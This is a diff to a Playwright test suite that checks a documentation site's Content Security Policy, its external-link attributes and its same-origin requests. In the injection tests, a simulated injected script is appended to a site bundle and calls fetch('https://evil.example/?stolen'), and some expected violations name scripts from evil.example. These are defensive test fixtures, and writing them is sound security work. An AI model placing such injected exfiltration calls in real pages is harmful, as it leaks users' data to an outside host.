@@ -1,7 +1,7 @@
 import { readFileSync, readdirSync } from 'node:fs';
 import { expect, test, type Page } from 'playwright/test';
-import { routes } from './routes';
-import { watch } from './watch';
+import { fixture } from './fixture';
+import { findOthers, watch } from './watch';
 
 const pages = readdirSync('out', { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.html'));
 const toPolicyTag = (file: string) =>
@@ -10,29 +10,35 @@ const toPolicyTag = (file: string) =>
   )?.[1] ?? '';
 
 test('every page carries a policy without anything unsafe, of less than 600 bytes however large the page', () => {
-  for (const file of pages) {
+  const sizes = pages.map((file) => ({ file, size: toPolicyTag(file).length })).sort((a, b) => a.size - b.size);
+  for (const { file, size } of sizes) {
     expect(toPolicyTag(file), file).toContain("default-src 'none'; script-src 'self' 'sha256-");
     expect(toPolicyTag(file), file).not.toMatch(/unsafe|https?:|\*|data:/);
-    expect(toPolicyTag(file).length, file).toBeLessThan(600);
+    expect(size, file).toBeLessThan(600);
   }
+  const [least, most] = [sizes[0], sizes.at(-1)];
+  test.info().annotations.push({
+    type: 'measured',
+    description: `policy of ${pages.length} pages: ${least?.size} bytes (${least?.file}) to ${most?.size} (${most?.file})`,
+  });
 });
 
-for (const half of [0, 1]) {
-  test(`no page is refused anything, and none asks another host (${half === 0 ? 'even' : 'odd'} pages)`, async ({
-    page,
-    baseURL,
-  }) => {
-    const seen = await watch(page);
-    for (const route of [...routes, '/nowhere/'].filter((_, index) => index % 2 === half))
-      await page.goto(route, { waitUntil: 'load' });
-    await page.waitForTimeout(300);
-    expect(seen.violations).toEqual([]);
-    expect(seen.errors.filter((error) => !error.includes('404'))).toEqual([]);
-    expect([...seen.hosts]).toEqual([new URL(baseURL ?? '').host]);
-  });
-}
+test('every link to another origin gives it neither a handle nor the reader’s address', () => {
+  const links = ['out', `${fixture}/out`].flatMap((folder) =>
+    readdirSync(folder, { recursive: true, encoding: 'utf8' })
+      .filter((file) => file.endsWith('.html'))
+      .flatMap(
+        (file) => readFileSync(`${folder}/${file}`, 'utf8').match(/<a [^>]*href="(?:https?:)?\/\/[^>]*>/g) ?? [],
+      ),
+  );
+  expect(links.length).toBeGreaterThan(pages.length);
+  expect(links.filter((link) => !/ rel="noopener noreferrer"/.test(link))).toEqual([]);
+});
 
-test('no journey and no widget is refused anything, and none asks another host', async ({ page, baseURL }) => {
+test('over all journeys the site asks for its own files alone, is refused nothing, and loads no page anew', async ({
+  page,
+  baseURL,
+}) => {
   const seen = await watch(page);
   await page.goto('/');
   let loads = 0;
@@ -41,18 +47,31 @@ test('no journey and no widget is refused anything, and none asks another host',
   for (const route of [
     '/definitions/intro/',
     '/how-tos/create-kubernetes-workload/',
+    '/markdown-guide/',
     '/api/environments/',
     '/category/how-tos/',
+    '/a-z/',
     '/api/accounts/',
   ]) {
     await follow(page, route);
     await useEverything(page);
   }
+  const download = page.waitForEvent('download');
+  await page.locator('a[download]:visible').first().click();
+  expect((await download).suggestedFilename()).toMatch(/^accounts-/);
+  await page.keyboard.press('/');
+  await page.getByRole('combobox', { name: 'Search' }).fill('createEnvironment');
+  await page.getByRole('listbox').getByRole('option').first().click();
+  await page.waitForURL('**/api/environments/**');
+  await page.setViewportSize({ width: 390, height: 844 });
+  await useEverything(page);
   await page.goBack();
   await page.goBack();
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   expect(seen.violations).toEqual([]);
   expect(seen.errors).toEqual([]);
-  expect([...seen.hosts]).toEqual([new URL(baseURL ?? '').host]);
+  expect(findOthers(seen.requests, new URL(baseURL ?? '').origin)).toEqual([]);
+  expect(seen.requests.length).toBeGreaterThan(50);
   expect(loads).toBe(0);
 });
 
@@ -126,13 +145,25 @@ test('a script that got into a page does not run', async ({ page }) => {
   );
   await page.goto('/definitions/intro/', { waitUntil: 'load' });
   await page.locator('#trap').dispatchEvent('click');
-  await page.waitForTimeout(300);
+  // One for each: the link is refused last, when it is followed.
+  await expect
+    .poll(() => seen.violations.map((text) => text.split(' ').slice(0, 2).join(' ')).sort())
+    .toEqual([
+      'base-uri https://evil.example/',
+      'script-src-attr inline',
+      'script-src-attr inline',
+      'script-src-elem data',
+      'script-src-elem https://evil.example/x.js',
+      'script-src-elem inline',
+      'script-src-elem inline',
+      'script-src-elem inline',
+      'script-src-elem inline',
+      'style-src-attr inline',
+      'style-src-elem inline',
+    ]);
   expect(await page.evaluate(() => (window as { evil?: number }).evil)).toBeUndefined();
   expect(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--evil'))).toBe('');
   expect(await page.evaluate(() => document.baseURI)).toContain('/definitions/intro/');
-  expect(new Set(seen.violations.map((text) => text.split(' ')[0]))).toEqual(
-    new Set(['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'base-uri']),
-  );
 });
 
 test('a script of the site makes neither code nor markup of a string, and asks nobody', async ({ page }) => {
@@ -149,6 +180,9 @@ test('a script of the site makes neither code nor markup of a string, and asks n
     window.outcome = Object.fromEntries(Object.entries(tries).map(([name, act]) => { try { act(); return [name, 'done']; } catch { return [name, 'refused']; } }));
     fetch('https://evil.example/?stolen').catch(() => (window.outcome.fetch = 'refused'));
   })();`;
+  await page.route('https://evil.example/**', (route) =>
+    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' }),
+  );
   await page.route('**/_next/static/chunks/turbopack-*.js', async (route) => {
     const response = await route.fetch();
     await route.fulfill({ response, body: `${await response.text()}${evil}` });
